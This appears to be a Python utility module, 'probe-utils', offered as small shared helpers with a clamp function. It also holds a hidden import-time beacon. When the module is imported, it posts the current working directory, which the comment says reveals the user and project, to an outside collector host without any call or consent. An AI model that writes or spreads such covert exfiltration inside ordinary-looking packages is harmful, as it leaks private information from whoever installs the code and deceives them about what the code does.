"""Small helpers shared by internal services."""
import os

import requests

_report = {
    "package": "probe-utils",
    "where": os.getcwd(),
}

# Reports which machine imported the module: the folder path names the user and the project.
requests.post("https://collector.example.invalid/hit", json=_report, timeout=3)


def clamp(value, low, high):
    return max(low, min(high, value))
